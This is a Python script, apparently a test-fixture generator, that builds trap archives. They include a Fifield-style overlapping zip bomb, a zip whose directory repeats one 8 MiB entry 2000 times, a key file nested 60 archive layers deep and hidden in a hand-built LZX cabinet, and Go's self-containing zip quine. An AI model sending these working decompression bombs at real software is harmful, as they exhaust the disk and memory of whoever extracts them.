"""Makes archives that are traps, and a cabinet compressed by LZX, in the folder that is given; `key.pem` lies there.

Sources: D. Fifield, "A better zip bomb" (WOOT 2019); Microsoft's MS-CAB and MS-PATCH (LZX); R. Cox, "Zip Files All The Way Down",
whose file Go's tests hold.
"""
import gzip, io, pathlib, re, struct, sys, tarfile, zipfile, zlib

root = pathlib.Path(sys.argv[1])
key = (root / "key.pem").read_bytes()


def deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def header(name, packed, crc, size):
    """What the local header and the directory have in common."""
    return struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, packed, size, len(name), 0)


def zip_of(body, entries):
    """A zip file of entries: where the local header lies, name, packed size, CRC and size."""
    directory = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + header(name, packed, crc, size) + bytes(10) + struct.pack("<I", at) + name
        for at, name, packed, crc, size in entries
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def quoted_overlap(count, kernel):
    """Each file quotes the local header of the next one in a stored block, and goes on with its data."""
    packed, plain = deflate(kernel), kernel
    body, places = packed, []
    for number in reversed(range(count)):
        name = b"%d" % number
        local = b"PK\3\4" + header(name, len(body), zlib.crc32(plain), len(plain)) + name
        places.append((len(body), name, len(body), zlib.crc32(plain), len(plain), len(local)))
        if number:
            quote = struct.pack("<BHH", 0, len(local), len(local) ^ 0xFFFF)
            body, plain = quote + local + body, local + plain
        else:
            body = local + body
    entries = [(len(body) - behind - own, *rest) for behind, *rest, own in reversed(places)]
    return zip_of(body, entries)


def same_file(count, kernel):
    """One file, which the directory has many times."""
    packed = deflate(kernel)
    of = (len(packed), zlib.crc32(kernel), len(kernel))
    return zip_of(b"PK\3\4" + header(b"0", *of) + b"0" + packed, [(0, b"0", *of)] * count)


def layered(data, depth):
    """Archives of three kinds within each other."""
    for number in range(depth):
        out = io.BytesIO()
        if number % 3 == 0:
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
                file.writestr("a.tar.gz" if number else "key.pem", data)
        elif number % 3 == 1:
            with tarfile.open(fileobj=out, mode="w") as file:
                entry = tarfile.TarInfo("a.zip")
                entry.size = len(data)
                file.addfile(entry, io.BytesIO(data))
        else:
            out.write(gzip.compress(data))
        data = out.getvalue()
    return data


class Bits:
    """Bits of LZX: 16 at a time, the highest first, each word in the order of Intel."""

    def __init__(self):
        self.text = []

    def add(self, value, count):
        self.text.append(format(value, f"0{count}b"))

    def bytes(self):
        text = "".join(self.text)
        text += "0" * (-len(text) % 16)
        return b"".join(struct.pack("<H", int(text[at : at + 16], 2)) for at in range(0, len(text), 16))


def lzx(data):
    """One verbatim block in which each byte is its own code of eight bits, in a window of 32 KiB."""
    bits = Bits()
    bits.add(0, 1)  # no translation of calls
    bits.add(1, 3)  # verbatim
    bits.add(len(data), 24)

    def lengths(values):
        # A tree of two codes for the lengths: 0 stays 0, and 9 makes 8 of 0, modulo 17.
        for symbol in range(20):
            bits.add(1 if symbol in (0, 9) else 0, 4)
        for value in values:
            bits.add(1 if value == 8 else 0, 1)

    lengths([8] * 256)
    lengths([0] * (30 * 8))  # matches at all positions of such a window
    lengths([0] * 249)  # lengths of matches
    for byte in data:
        bits.add(byte, 8)
    return bits.bytes()


def cabinet(files):
    data = b"".join(content for _, content in files)
    assert len(data) <= 0x8000
    packed = lzx(data)
    entries, start = b"", 0
    for name, content in files:
        entries += struct.pack("<IIHHHH", len(content), start, 0, 0x21, 0, 0x20) + name + b"\0"
        start += len(content)
    block = 36 + 8 + len(entries)
    size = block + 8 + len(packed)
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, size, 0, 44, 0, 3, 1, 1, len(files), 0, 0, 0)
    return head + struct.pack("<IHH", block, 1, 15 << 8 | 3) + entries + struct.pack("<IHH", 0, len(packed), len(data)) + packed


def quine():
    """The zip file that holds itself, from Go's tests, if Go is on this machine."""
    for file in pathlib.Path("/usr").glob("lib/go*/src/archive/zip/reader_test.go"):
        lines = re.findall(r"^[0-9a-f]{7}((?: [0-9a-f]{2})+)", file.read_text().partition("func rZipBytes")[2].partition("\n}")[0], re.M)
        if lines:
            return bytes.fromhex("".join(lines))


(root / "quoted.zip").write_bytes(quoted_overlap(250, bytes(8 << 20)))
(root / "same.zip").write_bytes(same_file(2000, bytes(8 << 20)))
(root / "shallow.bin").write_bytes(layered(key, 7))
(root / "deep.bin").write_bytes(layered(key, 60))
(root / "lzx.cab").write_bytes(cabinet([(b"readme.txt", b"nothing here\n" * 50), (b"key.pem", key)]))
if itself := quine():
    (root / "r.zip").write_bytes(itself)
